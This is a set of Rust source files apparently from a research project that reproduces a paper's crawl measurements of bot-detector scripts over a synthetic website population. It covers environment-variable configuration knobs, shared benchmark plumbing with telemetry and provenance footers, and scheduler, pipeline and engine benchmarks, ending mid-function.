//! | knob                      | type  | default        | meaning |
//! |---------------------------|-------|----------------|---------|
//! | `GULLIBLE_SITES`          | u32   | 20,000         | population size (paper scale: 100,000) |
//! | `GULLIBLE_SEED`           | u64   | 42             | population seed |
//! | `GULLIBLE_WORKERS`        | usize | CPU count      | crawl worker threads |
//! | `GULLIBLE_CHECKPOINT`     | path  | unset          | journal per-site scan results; resume on restart |
//! | `GULLIBLE_TRACE`          | path  | unset          | stream the JSONL telemetry journal here |
//! | `GULLIBLE_TRACE_WALL`     | bool  | 0              | add `wall_ms` to journal lines (breaks byte-identity) |
//! | `GULLIBLE_STATS`          | bool  | 0              | print the `[stats]` crawl summary after each run |
//! | `GULLIBLE_FAULT_CRASH_PM` | u32   | 0              | browser-crash probability per visit (per-mille) |
//! | `GULLIBLE_FAULT_HANG_PM`  | u32   | 0              | visit-hang probability (per-mille) |
//! | `GULLIBLE_FAULT_NAV_PM`   | u32   | 0              | navigation-error probability (per-mille) |
//! | `GULLIBLE_FAULT_TAB_PM`   | u32   | 0              | mid-visit tab-crash probability (per-mille) |
//! | `GULLIBLE_FAULT_HTTP_PM`  | u32   | 0              | transient-HTTP-failure probability (per-mille) |
//! | `GULLIBLE_FAULT_BOOST_PM` | u32   | 1000           | failure multiplier on flaky-flagged sites (per-mille) |
//! | `GULLIBLE_FAULT_SEED`     | u64   | `0xFA017`      | fault-plan seed, independent of the population seed |
//! | `GULLIBLE_COMPILE_CACHE`  | bool  | 1              | share compiled scripts across workers (`0` disables; ablation) |
//! | `GULLIBLE_COMPILE_SHARDS` | usize | 16             | mutex stripes in the compile cache (set before first use) |
//! | `GULLIBLE_ENGINE`         | enum  | `vm`           | MiniJS execution backend: `vm` (bytecode) or `tree` (reference oracle); the `--engine=tree\|vm` CLI flag wins |
//! | `GULLIBLE_MATCHER`        | enum  | `automaton`    | static-pattern match engine: `automaton` (compiled multi-pattern) or `naive` (per-pattern oracle); the `--matcher=naive\|automaton` CLI flag wins |
//! | `GULLIBLE_BUNDLE`         | path  | unset          | crawl-bundle directory for `archive_record`/`archive_replay` (positional arg wins) |
//! | `GULLIBLE_PROF`           | mode  | off            | phase profiler: `1` on, `collapsed` also prints a flamegraph-ready collapsed-stack dump |
//! | `GULLIBLE_PROF_SLOW_US`   | u64   | 0              | slow-visit threshold in µs; visits at/above it dump a forensic record (`0` disables) |
//! | `GULLIBLE_FORENSICS`      | path  | unset          | append flight-recorder forensic dumps (JSONL) here; arms the profiler |
//!
//! Boolean knobs accept `1`, `true`, `yes` or `on` (anything else, or
//! unset, is off). Default-on boolean knobs (`GULLIBLE_COMPILE_CACHE`)
//! are instead *disabled* by `0`, `false`, `no` or `off`. Numeric knobs
//! that fail to parse fall back to their defaults rather than aborting a
//! long run.

use gullible::obs;
use openwpm::FaultPlan;
use std::path::PathBuf;

fn u64_knob(name: &str, default: u64) -> u64 {
    std::env::var(name).ok().and_then(|v| v.parse().ok()).unwrap_or(default)
}

fn flag_knob(name: &str) -> bool {
    matches!(
        std::env::var(name).unwrap_or_default().to_ascii_lowercase().as_str(),
        "1" | "true" | "yes" | "on"
    )
}

/// A boolean knob that defaults to *on*: only an explicit negative value
/// turns it off.
fn default_on_knob(name: &str) -> bool {
    !matches!(
        std::env::var(name).unwrap_or_default().to_ascii_lowercase().as_str(),
        "0" | "false" | "no" | "off"
    )
}

fn path_knob(name: &str) -> Option<PathBuf> {
    std::env::var_os(name).filter(|v| !v.is_empty()).map(PathBuf::from)
}

/// `GULLIBLE_SITES` — population size for scan-scale experiments.
pub fn sites() -> u32 {
    u64_knob("GULLIBLE_SITES", 20_000) as u32
}

/// `GULLIBLE_SEED` — population seed.
pub fn seed() -> u64 {
    u64_knob("GULLIBLE_SEED", 42)
}

/// `GULLIBLE_WORKERS` — crawl worker threads.
pub fn workers() -> usize {
    u64_knob(
        "GULLIBLE_WORKERS",
        std::thread::available_parallelism().map(|n| n.get() as u64).unwrap_or(4),
    ) as usize
}

/// `GULLIBLE_CHECKPOINT` — per-site result journal for resumable scans.
pub fn checkpoint() -> Option<PathBuf> {
    path_knob("GULLIBLE_CHECKPOINT")
}

/// `GULLIBLE_TRACE` — destination for the JSONL telemetry journal.
pub fn trace() -> Option<PathBuf> {
    path_knob("GULLIBLE_TRACE")
}

/// `GULLIBLE_TRACE_WALL` — append wall-clock timestamps to journal lines.
pub fn trace_wall() -> bool {
    flag_knob("GULLIBLE_TRACE_WALL")
}

/// `GULLIBLE_STATS` — print the `[stats]` crawl summary.
pub fn stats() -> bool {
    flag_knob("GULLIBLE_STATS")
}

/// The `GULLIBLE_FAULT_*` fault plan (see [`FaultPlan::from_env`]).
pub fn fault_plan() -> FaultPlan {
    FaultPlan::from_env()
}

/// `GULLIBLE_COMPILE_CACHE` — the shared script-compilation cache, on by
/// default. The `--no-compile-cache` CLI flag (any binary) also disables
/// it, for ablations.
pub fn compile_cache() -> bool {
    default_on_knob("GULLIBLE_COMPILE_CACHE")
        && !std::env::args().any(|a| a == "--no-compile-cache")
}

/// `GULLIBLE_COMPILE_SHARDS` — mutex stripes in the compile cache. Takes
/// effect only if set before the cache's first use.
pub fn compile_shards() -> usize {
    u64_knob("GULLIBLE_COMPILE_SHARDS", 16) as usize
}

/// `GULLIBLE_ENGINE` / `--engine=tree|vm` — the MiniJS execution backend
/// (the flag wins over the env var). `jsengine` itself also reads the env
/// var lazily — a documented exception to the parse-here-only rule, like
/// [`FaultPlan::from_env`] — so library users outside the bench binaries
/// get the same default; this function exists so binaries can *arm* the
/// choice eagerly (and honour the CLI flag) before any realm is built.
pub fn engine() -> jsengine::Engine {
    let flag = std::env::args().find_map(|a| a.strip_prefix("--engine=").map(str::to_owned));
    let v = flag.or_else(|| std::env::var("GULLIBLE_ENGINE").ok()).unwrap_or_default();
    match v.trim() {
        "tree" => jsengine::Engine::Tree,
        _ => jsengine::Engine::Vm,
    }
}

/// `GULLIBLE_MATCHER` / `--matcher=naive|automaton` — the static-pattern
/// match engine (the flag wins over the env var). Like `GULLIBLE_ENGINE`,
/// `detect` also reads the env var lazily on first use; this function lets
/// binaries arm the choice eagerly and honour the CLI flag.
pub fn matcher() -> detect::MatcherKind {
    let flag = std::env::args().find_map(|a| a.strip_prefix("--matcher=").map(str::to_owned));
    let v = flag.or_else(|| std::env::var("GULLIBLE_MATCHER").ok()).unwrap_or_default();
    match v.trim().to_ascii_lowercase().as_str() {
        "naive" => detect::MatcherKind::Naive,
        _ => detect::MatcherKind::Automaton,
    }
}

/// `GULLIBLE_BUNDLE` — crawl-bundle directory for the archive binaries.
pub fn bundle() -> Option<PathBuf> {
    path_knob("GULLIBLE_BUNDLE")
}

/// `GULLIBLE_PROF` — phase-profiler mode (`off`, `1`/`on`, `collapsed`).
pub fn prof_mode() -> obs::prof::Mode {
    obs::prof::parse_mode(&std::env::var("GULLIBLE_PROF").unwrap_or_default())
}

/// `GULLIBLE_PROF_SLOW_US` — slow-visit forensic-dump threshold (µs, 0 = off).
pub fn prof_slow_us() -> u64 {
    u64_knob("GULLIBLE_PROF_SLOW_US", 0)
}

/// `GULLIBLE_FORENSICS` — flight-recorder forensic dump file (JSONL, append).
pub fn forensics() -> Option<PathBuf> {
    path_knob("GULLIBLE_FORENSICS")
}

/// Positional (non-flag) CLI arguments, in order — the archive binaries
/// take bundle directories this way, ahead of `GULLIBLE_BUNDLE`.
pub fn positional_args() -> Vec<String> {
    std::env::args().skip(1).filter(|a| !a.starts_with("--")).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    // Env-var tests mutate process state; keep them in one test so they
    // cannot race each other under the parallel test runner.
    #[test]
    fn knob_parsing() {
        std::env::set_var("GULLIBLE_TEST_U64", "17");
        assert_eq!(u64_knob("GULLIBLE_TEST_U64", 3), 17);
        std::env::set_var("GULLIBLE_TEST_U64", "not a number");
        assert_eq!(u64_knob("GULLIBLE_TEST_U64", 3), 3);
        std::env::remove_var("GULLIBLE_TEST_U64");
        assert_eq!(u64_knob("GULLIBLE_TEST_U64", 3), 3);

        for on in ["1", "true", "YES", "On"] {
            std::env::set_var("GULLIBLE_TEST_FLAG", on);
            assert!(flag_knob("GULLIBLE_TEST_FLAG"), "{on} should enable");
        }
        std::env::set_var("GULLIBLE_TEST_FLAG", "0");
        assert!(!flag_knob("GULLIBLE_TEST_FLAG"));
        std::env::remove_var("GULLIBLE_TEST_FLAG");
        assert!(!flag_knob("GULLIBLE_TEST_FLAG"));

        for off in ["0", "false", "NO", "Off"] {
            std::env::set_var("GULLIBLE_TEST_ON", off);
            assert!(!default_on_knob("GULLIBLE_TEST_ON"), "{off} should disable");
        }
        std::env::set_var("GULLIBLE_TEST_ON", "1");
        assert!(default_on_knob("GULLIBLE_TEST_ON"));
        std::env::remove_var("GULLIBLE_TEST_ON");
        assert!(default_on_knob("GULLIBLE_TEST_ON"), "unset must default on");

        std::env::set_var("GULLIBLE_TEST_PATH", "/tmp/x.jsonl");
        assert_eq!(path_knob("GULLIBLE_TEST_PATH"), Some(PathBuf::from("/tmp/x.jsonl")));
        std::env::set_var("GULLIBLE_TEST_PATH", "");
        assert_eq!(path_knob("GULLIBLE_TEST_PATH"), None);
        std::env::remove_var("GULLIBLE_TEST_PATH");
        assert_eq!(path_knob("GULLIBLE_TEST_PATH"), None);
    }
}
