//! Shared plumbing for the experiment-regeneration binaries.
//!
//! Every table and figure of the paper has a binary in `src/bin/` that
//! regenerates it against the synthetic population. Scale and seed are
//! controlled by environment variables so the same binaries drive both
//! quick looks and the full paper-scale runs recorded in EXPERIMENTS.md:
//!
//! * `GULLIBLE_SITES`   — population size (default 20,000; paper scale 100,000)
//! * `GULLIBLE_SEED`    — population seed (default 42)
//! * `GULLIBLE_WORKERS` — worker threads (default: available parallelism)

use gullible::{CompareConfig, ScanConfig};

fn env_u64(name: &str, default: u64) -> u64 {
    std::env::var(name).ok().and_then(|v| v.parse().ok()).unwrap_or(default)
}

/// Population size for scan-scale experiments.
pub fn n_sites() -> u32 {
    env_u64("GULLIBLE_SITES", 20_000) as u32
}

pub fn seed() -> u64 {
    env_u64("GULLIBLE_SEED", 42)
}

pub fn workers() -> usize {
    env_u64(
        "GULLIBLE_WORKERS",
        std::thread::available_parallelism().map(|n| n.get() as u64).unwrap_or(4),
    ) as usize
}

/// Standard scan configuration from the environment.
pub fn scan_config() -> ScanConfig {
    let mut cfg = ScanConfig::new(n_sites(), seed());
    cfg.workers = workers();
    cfg
}

/// Standard comparison configuration from the environment.
pub fn compare_config() -> CompareConfig {
    let mut cfg = CompareConfig::new(n_sites(), seed());
    cfg.workers = workers();
    cfg
}

/// Print the run header every binary starts with.
pub fn banner(what: &str) {
    println!(
        "gullible reproduction — {what}\npopulation: {} sites, seed {}, {} workers\n",
        n_sites(),
        seed(),
        workers()
    );
}

/// Scale one of the paper's 100K-population counts to the configured size
/// (for side-by-side target columns).
pub fn scale_target(paper_count: u64) -> u64 {
    paper_count * n_sites() as u64 / 100_000
}
