//! Shared plumbing for the experiment-regeneration binaries.
//!
//! Every table and figure of the paper has a binary in `src/bin/` that
//! regenerates it against the synthetic population. Scale and seed are
//! controlled by environment variables so the same binaries drive both
//! quick looks and the full paper-scale runs recorded in EXPERIMENTS.md:
//!
//! * `GULLIBLE_SITES`   — population size (default 20,000; paper scale 100,000)
//! * `GULLIBLE_SEED`    — population seed (default 42)
//! * `GULLIBLE_WORKERS` — worker threads (default: available parallelism)
//!
//! Fault injection (all default to 0, i.e. a perfectly reliable crawl):
//!
//! * `GULLIBLE_FAULT_CRASH_PM` — browser-crash probability per visit, in
//!   per-mille (the paper's headline failure mode)
//! * `GULLIBLE_FAULT_HANG_PM`  — visit-hang probability (caught by the
//!   watchdog timeout)
//! * `GULLIBLE_FAULT_NAV_PM`   — navigation-error probability
//! * `GULLIBLE_FAULT_TAB_PM`   — mid-visit tab-crash probability
//! * `GULLIBLE_FAULT_HTTP_PM`  — transient-HTTP-failure probability
//! * `GULLIBLE_FAULT_BOOST_PM` — failure multiplier (per-mille, 1000 = ×1)
//!   applied on flaky-flagged sites
//! * `GULLIBLE_FAULT_SEED`     — fault-plan seed (independent of the
//!   population seed, so the same population can be crawled under
//!   different weather)

use gullible::{CompareConfig, ScanConfig};
use openwpm::FaultPlan;

fn env_u64(name: &str, default: u64) -> u64 {
    std::env::var(name).ok().and_then(|v| v.parse().ok()).unwrap_or(default)
}

/// Population size for scan-scale experiments.
pub fn n_sites() -> u32 {
    env_u64("GULLIBLE_SITES", 20_000) as u32
}

pub fn seed() -> u64 {
    env_u64("GULLIBLE_SEED", 42)
}

pub fn workers() -> usize {
    env_u64(
        "GULLIBLE_WORKERS",
        std::thread::available_parallelism().map(|n| n.get() as u64).unwrap_or(4),
    ) as usize
}

/// Standard scan configuration from the environment, including the
/// `GULLIBLE_FAULT_*` fault plan.
pub fn scan_config() -> ScanConfig {
    let mut cfg = ScanConfig::new(n_sites(), seed());
    cfg.workers = workers();
    cfg.faults = FaultPlan::from_env();
    cfg
}

/// Standard comparison configuration from the environment.
pub fn compare_config() -> CompareConfig {
    let mut cfg = CompareConfig::new(n_sites(), seed());
    cfg.workers = workers();
    cfg
}

/// Print the run header every binary starts with.
pub fn banner(what: &str) {
    let faults = FaultPlan::from_env();
    let weather = if faults.is_inert() {
        String::new()
    } else {
        format!(
            ", faults {}‰/visit (seed {})",
            faults.total_per_mille(),
            faults.seed
        )
    };
    println!(
        "gullible reproduction — {what}\npopulation: {} sites, seed {}, {} workers{weather}\n",
        n_sites(),
        seed(),
        workers()
    );
}

/// Scale one of the paper's 100K-population counts to the configured size
/// (for side-by-side target columns).
pub fn scale_target(paper_count: u64) -> u64 {
    paper_count * n_sites() as u64 / 100_000
}

/// Minimal self-timed benchmark runner (the offline build environment has
/// no criterion): one warm-up call, then `iters` timed iterations.
pub fn timeit(name: &str, iters: u32, mut f: impl FnMut()) {
    f();
    let t0 = std::time::Instant::now();
    for _ in 0..iters {
        f();
    }
    let per = t0.elapsed() / iters;
    println!("{name:<40} {per:>12.2?}/iter ({iters} iters)");
}
