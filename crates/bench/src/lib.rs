//! Shared plumbing for the experiment-regeneration binaries.
//!
//! Every table and figure of the paper has a binary in `src/bin/` that
//! regenerates it against the synthetic population. Scale, seed, fault
//! weather and telemetry are all controlled by `GULLIBLE_*` environment
//! variables, documented (with types and defaults) in [`env`] — the one
//! module that parses them. The same binaries therefore drive both quick
//! looks and the full paper-scale runs recorded in EXPERIMENTS.md.
//!
//! Each binary follows the same frame:
//!
//! ```text
//! bench::banner("Table 5: …");   // prints the run header, arms telemetry
//! …regenerate the table…
//! bench::finish("table05", coverage);  // [stats] summary + provenance footer
//! ```
//!
//! [`banner`] installs the JSONL trace journal when `GULLIBLE_TRACE` is
//! set and enables stats collection under `GULLIBLE_STATS`; [`finish`]
//! prints the human `[stats]` summary (when enabled) and always prints the
//! machine-readable `[provenance]` footer, so every regenerated table
//! carries its seed, config hash and telemetry digest.

#![deny(deprecated)]

use gullible::{obs, CompareConfig, ScanConfig};

pub mod env;

/// Population size for scan-scale experiments (`GULLIBLE_SITES`).
pub fn n_sites() -> u32 {
    env::sites()
}

/// Population seed (`GULLIBLE_SEED`).
pub fn seed() -> u64 {
    env::seed()
}

/// Worker threads (`GULLIBLE_WORKERS`).
pub fn workers() -> usize {
    env::workers()
}

/// Standard scan configuration from the environment, including the
/// `GULLIBLE_FAULT_*` fault plan.
pub fn scan_config() -> ScanConfig {
    let mut cfg = ScanConfig::new(env::sites(), env::seed());
    cfg.workers = env::workers();
    cfg.faults = env::fault_plan();
    cfg
}

/// Crawl-bundle directory for the archive binaries: the first positional
/// CLI argument, else `GULLIBLE_BUNDLE`, else a (sites, seed)-scoped
/// directory under the system temp dir — the same default for
/// `archive_record` and `archive_replay`, so a record-then-replay pair
/// needs no arguments at all.
pub fn bundle_dir() -> std::path::PathBuf {
    env::positional_args()
        .into_iter()
        .next()
        .map(std::path::PathBuf::from)
        .or_else(env::bundle)
        .unwrap_or_else(|| {
            std::env::temp_dir().join(format!("gullible-bundle-{}x{}", env::sites(), env::seed()))
        })
}

/// Standard comparison configuration from the environment.
pub fn compare_config() -> CompareConfig {
    let mut cfg = CompareConfig::new(env::sites(), env::seed());
    cfg.workers = env::workers();
    cfg
}

/// Arm the telemetry knobs: install the trace journal when
/// `GULLIBLE_TRACE` names a path, enable stats under `GULLIBLE_STATS`,
/// switch on the phase profiler / flight recorder under `GULLIBLE_PROF`,
/// `GULLIBLE_PROF_SLOW_US` and `GULLIBLE_FORENSICS`.
fn arm_telemetry() {
    if env::stats() {
        obs::set_stats(true);
    }
    if let Some(path) = env::trace() {
        match obs::Journal::to_file(&path, env::trace_wall()) {
            Ok(journal) => {
                obs::install_journal(journal);
            }
            Err(e) => eprintln!("warning: GULLIBLE_TRACE={}: {e}", path.display()),
        }
    }
    obs::prof::set_mode(env::prof_mode());
    obs::prof::set_slow_visit_us(env::prof_slow_us());
    if let Some(path) = env::forensics() {
        if let Err(e) = obs::prof::set_forensic_path(Some(&path)) {
            eprintln!("warning: GULLIBLE_FORENSICS={}: {e}", path.display());
        }
    }
}

/// Apply the compile-cache knobs (`GULLIBLE_COMPILE_CACHE`,
/// `GULLIBLE_COMPILE_SHARDS`, the `--no-compile-cache` flag). Shard count
/// only takes effect before the cache's first use, so this runs from
/// [`banner`], ahead of any script compilation.
fn arm_compile_cache() {
    jsengine::set_cache_shards(env::compile_shards());
    jsengine::set_cache_enabled(env::compile_cache());
}

/// Apply the execution-backend knob (`GULLIBLE_ENGINE`, the
/// `--engine=tree|vm` flag) before any realm is built, so every
/// interpreter the binary creates inherits it.
fn arm_engine() {
    jsengine::set_default_engine(env::engine());
}

/// Apply the static-matcher knob (`GULLIBLE_MATCHER`, the
/// `--matcher=naive|automaton` flag) before any script is classified.
fn arm_matcher() {
    detect::set_default_matcher(env::matcher());
}

/// Print the run header every binary starts with (and arm telemetry).
pub fn banner(what: &str) {
    arm_telemetry();
    arm_compile_cache();
    arm_engine();
    arm_matcher();
    let faults = env::fault_plan();
    let weather = if faults.is_inert() {
        String::new()
    } else {
        format!(
            ", faults {}‰/visit (seed {})",
            faults.total_per_mille(),
            faults.seed
        )
    };
    let cache = if jsengine::cache_enabled() { "" } else { ", compile cache OFF" };
    let engine = match jsengine::default_engine() {
        jsengine::Engine::Vm => "",
        jsengine::Engine::Tree => ", engine tree",
    };
    let matcher = match detect::default_matcher() {
        detect::MatcherKind::Automaton => "",
        detect::MatcherKind::Naive => ", matcher naive",
    };
    println!(
        "gullible reproduction — {what}\npopulation: {} sites, seed {}, {} workers{weather}{cache}{engine}{matcher}\n",
        env::sites(),
        env::seed(),
        env::workers()
    );
}

/// Hash of the effective run configuration, as carried by provenance
/// footers. Keys are ordered; two runs with equal hashes were configured
/// identically (worker count included — it never changes the results, but
/// it is part of how the run was produced).
pub fn run_config_hash() -> u64 {
    let faults = env::fault_plan();
    obs::stats::config_hash(&[
        ("sites", env::sites().to_string()),
        ("seed", env::seed().to_string()),
        ("workers", env::workers().to_string()),
        ("faults_pm", faults.total_per_mille().to_string()),
        ("fault_seed", faults.seed.to_string()),
    ])
}

/// Print the run footer every binary ends with: the `[stats]` summary when
/// `GULLIBLE_STATS` is on, then — always — the one-line `[provenance]`
/// footer (seed, config hash, telemetry digest, coverage), and flush the
/// trace journal.
pub fn finish(bin: &str, coverage: Option<&str>) {
    let reg = obs::registry();
    if obs::stats_enabled() {
        print!("{}", obs::stats::render_summary(reg));
    }
    if obs::prof::mode() == obs::prof::Mode::Collapsed {
        // Flamegraph-ready collapsed stacks: `stack;stack;... self_us`.
        let collapsed = obs::prof::render_collapsed();
        if !collapsed.is_empty() {
            print!("[prof] collapsed stacks (self µs)\n{collapsed}");
        }
    }
    println!(
        "{}",
        obs::stats::provenance_footer(bin, env::seed(), run_config_hash(), &reg.snapshot(), coverage)
    );
    if let Some(journal) = obs::journal() {
        journal.flush();
    }
}

/// Scale one of the paper's 100K-population counts to the configured size
/// (for side-by-side target columns).
pub fn scale_target(paper_count: u64) -> u64 {
    paper_count * env::sites() as u64 / 100_000
}

/// Results collected by [`timeit`] for the `--stats` JSON footer.
static BENCH_RESULTS: std::sync::Mutex<Vec<(String, u128, u32)>> =
    std::sync::Mutex::new(Vec::new());

/// `--stats` mode for the bench harnesses: besides the human-readable
/// lines, [`bench_footer`] emits one JSON object with every measurement —
/// redirect it to `BENCH_<suite>.json` to feed performance trajectories.
pub fn stats_mode() -> bool {
    std::env::args().any(|a| a == "--stats")
}

/// Minimal self-timed benchmark runner (the offline build environment has
/// no criterion): one warm-up call, then `iters` timed iterations.
pub fn timeit(name: &str, iters: u32, mut f: impl FnMut()) {
    f();
    let t0 = std::time::Instant::now();
    for _ in 0..iters {
        f();
    }
    let per = t0.elapsed() / iters;
    println!("{name:<40} {per:>12.2?}/iter ({iters} iters)");
    BENCH_RESULTS.lock().unwrap().push((name.to_string(), per.as_nanos(), iters));
}

/// End-of-suite footer for the bench harnesses. Under `--stats` it prints
/// a single JSON line with every [`timeit`] measurement plus the run's
/// config hash and telemetry digest:
///
/// ```text
/// cargo bench --bench engine -- --stats | tail -1 > BENCH_engine.json
/// ```
pub fn bench_footer(suite: &str) {
    if !stats_mode() {
        return;
    }
    let results = BENCH_RESULTS.lock().unwrap();
    let mut json = String::new();
    obs::push_json_string(&mut json, suite);
    let mut out = format!("{{\"suite\":{json},\"results\":[");
    for (i, (name, ns, iters)) in results.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        let mut n = String::new();
        obs::push_json_string(&mut n, name);
        out.push_str(&format!(
            "{{\"name\":{n},\"ns_per_iter\":{ns},\"iters\":{iters}}}"
        ));
    }
    out.push_str(&format!(
        "],\"config\":\"{:016x}\",\"telemetry\":\"{:016x}\"}}",
        run_config_hash(),
        obs::registry().snapshot().digest()
    ));
    println!("{out}");
}
