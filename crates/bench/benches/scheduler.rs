//! Scheduler micro-benchmarks: fixed coordination cost and throughput of
//! `run_parallel` at n = 100K no-op items.
//!
//! The old executor allocated one `Mutex<Option<W>>` per item plus a
//! global `Mutex<Vec<Option<R>>>` for results — 2n mutexes of fixed cost
//! before the first visit ran. `old_executor` below reimplements that
//! scheme so the suite keeps measuring it side by side with the
//! work-stealing scheduler, whose synchronisation state is O(workers).
//! On no-op items the entire measurement *is* coordination overhead,
//! which is exactly the cost the scheduler was built to shed.

#![deny(deprecated)]

use std::hint::black_box;
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Mutex;

use bench::timeit;
use openwpm::run_parallel;

/// The pre-work-stealing executor, kept verbatim as a baseline: shared
/// cursor, one mutex per item, one global results mutex.
fn old_executor<W, R, S>(
    items: Vec<W>,
    workers: usize,
    init: impl Fn(usize) -> S + Sync,
    step: impl Fn(&mut S, usize, W) -> R + Sync,
) -> Vec<R>
where
    W: Send,
    R: Send,
{
    let workers = workers.max(1);
    let n = items.len();
    let mut slots: Vec<Option<R>> = Vec::with_capacity(n);
    slots.resize_with(n, || None);
    let results = Mutex::new(slots);
    let cursor = AtomicUsize::new(0);
    let mut boxed: Vec<Mutex<Option<W>>> = Vec::with_capacity(n);
    for item in items {
        boxed.push(Mutex::new(Some(item)));
    }
    std::thread::scope(|scope| {
        for w in 0..workers {
            let results = &results;
            let cursor = &cursor;
            let boxed = &boxed;
            let init = &init;
            let step = &step;
            scope.spawn(move || {
                let mut state = match catch_unwind(AssertUnwindSafe(|| init(w))) {
                    Ok(s) => s,
                    Err(_) => return,
                };
                loop {
                    let i = cursor.fetch_add(1, Ordering::Relaxed);
                    if i >= n {
                        break;
                    }
                    let item = boxed[i].lock().unwrap().take().expect("item taken once");
                    let r = step(&mut state, i, item);
                    results.lock().unwrap()[i] = Some(r);
                }
            });
        }
    });
    results
        .into_inner()
        .unwrap()
        .into_iter()
        .map(|r| r.expect("all items processed"))
        .collect()
}

const N: usize = 100_000;

fn main() {
    let items = || (0..N as u64).collect::<Vec<u64>>();

    // Pure coordination: no-op steps, so every nanosecond is scheduler tax.
    for workers in [1usize, 4, 8] {
        timeit(&format!("sched/noop_100k/old/{workers}w"), 5, || {
            black_box(old_executor(items(), workers, |_| (), |_, _, x| x));
        });
        timeit(&format!("sched/noop_100k/new/{workers}w"), 5, || {
            black_box(run_parallel(items(), workers, |_| (), |_, _, x| x));
        });
    }

    // A small per-item payload, closer to a real (if tiny) visit.
    for workers in [1usize, 8] {
        timeit(&format!("sched/spin_100k/new/{workers}w"), 3, || {
            black_box(run_parallel(
                items(),
                workers,
                |_| 0u64,
                |acc, _, x| {
                    let mut h = x ^ 0x9E37_79B9_7F4A_7C15;
                    for _ in 0..32 {
                        h = h.wrapping_mul(0x0000_0100_0000_01b3).rotate_left(17);
                    }
                    *acc = acc.wrapping_add(h);
                    h
                },
            ));
        });
    }

    bench::bench_footer("scheduler");
}
