//! Pipeline benchmarks: scan and comparison throughput per site, static
//! analysis over scripts — the costs that bound paper-scale runs.

use criterion::{criterion_group, criterion_main, BatchSize, Criterion};
use std::hint::black_box;

use detect::static_analysis::analyse;
use gullible::compare::visit_one;
use gullible::scan::scan_site;
use openwpm::{Browser, BrowserConfig};
use webgen::Population;

fn bench_pipeline(c: &mut Criterion) {
    let pop = Population::new(100_000, 42);

    c.bench_function("scan/site_with_detector", |b| {
        // A site guaranteed to carry a first-party detector.
        let plan = (0..100_000).map(|r| pop.plan(r)).find(|p| p.first_party.is_some()).unwrap();
        b.iter_batched(
            || Browser::new(BrowserConfig::scanner(42)),
            |mut browser| black_box(scan_site(&mut browser, &plan, true)),
            BatchSize::SmallInput,
        )
    });

    c.bench_function("scan/site_without_detector", |b| {
        let plan = (0..100_000)
            .map(|r| pop.plan(r))
            .find(|p| !p.site_has_detector() && !p.benign_mention && !p.iterator)
            .unwrap();
        b.iter_batched(
            || Browser::new(BrowserConfig::scanner(42)),
            |mut browser| black_box(scan_site(&mut browser, &plan, true)),
            BatchSize::SmallInput,
        )
    });

    c.bench_function("compare/visit_wpm", |b| {
        let plan = (0..100_000)
            .map(|r| pop.plan(r))
            .find(|p| p.first_party.is_some() && p.cloak.reidentifies)
            .unwrap();
        b.iter_batched(
            || Browser::new(BrowserConfig::vanilla(42)),
            |mut browser| black_box(visit_one(&mut browser, &plan, 1, 0xAAAA, false)),
            BatchSize::SmallInput,
        )
    });

    c.bench_function("static/analyse_detector_corpus", |b| {
        let scripts: Vec<String> = detect::Technique::all()
            .iter()
            .map(|t| detect::corpus::selenium_detector(*t, "https://bd.test/v"))
            .collect();
        b.iter(|| {
            for s in &scripts {
                black_box(analyse(s));
            }
        })
    });

    c.bench_function("webgen/plan_generation_1k", |b| {
        b.iter(|| {
            for rank in 0..1000 {
                black_box(pop.plan(rank));
            }
        })
    });
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(20);
    targets = bench_pipeline
}
criterion_main!(benches);
