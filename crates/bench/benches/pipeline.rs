//! Pipeline benchmarks: scan and comparison throughput per site, static
//! analysis over scripts — the costs that bound paper-scale runs.

#![deny(deprecated)]

use std::hint::black_box;

use bench::timeit;
use detect::static_analysis::analyse;
use gullible::compare::visit_one;
use gullible::scan::scan_site;
use openwpm::{Browser, BrowserConfig};
use webgen::Population;

fn main() {
    let pop = Population::new(100_000, 42);

    // A site guaranteed to carry a first-party detector.
    let with_detector =
        (0..100_000).map(|r| pop.plan(r)).find(|p| p.first_party.is_some()).unwrap();
    timeit("scan/site_with_detector", 20, || {
        let mut browser = Browser::new(BrowserConfig::scanner(42));
        let _ = black_box(scan_site(&mut browser, &with_detector, true));
    });

    let without_detector = (0..100_000)
        .map(|r| pop.plan(r))
        .find(|p| !p.site_has_detector() && !p.benign_mention && !p.iterator)
        .unwrap();
    timeit("scan/site_without_detector", 20, || {
        let mut browser = Browser::new(BrowserConfig::scanner(42));
        let _ = black_box(scan_site(&mut browser, &without_detector, true));
    });

    let compare_plan = (0..100_000)
        .map(|r| pop.plan(r))
        .find(|p| p.first_party.is_some() && p.cloak.reidentifies)
        .unwrap();
    timeit("compare/visit_wpm", 20, || {
        let mut browser = Browser::new(BrowserConfig::vanilla(42));
        black_box(visit_one(&mut browser, &compare_plan, 1, 0xAAAA, false));
    });

    let scripts: Vec<String> = detect::Technique::all()
        .iter()
        .map(|t| detect::corpus::selenium_detector(*t, "https://bd.test/v"))
        .collect();
    timeit("static/analyse_detector_corpus", 20, || {
        for s in &scripts {
            black_box(analyse(s));
        }
    });

    timeit("webgen/plan_generation_1k", 20, || {
        for rank in 0..1000 {
            black_box(pop.plan(rank));
        }
    });

    bench::bench_footer("pipeline");
}
