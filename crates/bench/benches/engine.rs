//! Engine-level benchmarks: interpreter throughput, realm construction,
//! template capture. Quantifies the "tree-walking interpreter vs bytecode"
//! design decision from DESIGN.md.

use criterion::{criterion_group, criterion_main, Criterion};
use std::hint::black_box;

use browser::{FingerprintProfile, Os, Page, RunMode};
use jsengine::Interp;
use netsim::Url;

fn bench_engine(c: &mut Criterion) {
    c.bench_function("interp/arith_loop_10k", |b| {
        b.iter(|| {
            let mut it = Interp::new();
            let v = it
                .eval_script(
                    "var s = 0; for (var i = 0; i < 10000; i++) { s += i % 7; } s",
                    "bench",
                )
                .unwrap();
            black_box(v)
        })
    });

    c.bench_function("interp/realm_creation", |b| {
        b.iter(|| black_box(Interp::new()))
    });

    c.bench_function("interp/parse_detector_script", |b| {
        let src = detect::corpus::selenium_detector(
            detect::Technique::Plain,
            "https://bd.test/v",
        );
        b.iter(|| black_box(jsengine::parser::parse(&src, "bench")).unwrap())
    });

    c.bench_function("browser/page_creation", |b| {
        let url = Url::parse("https://bench.test/").unwrap();
        b.iter(|| {
            black_box(Page::new(
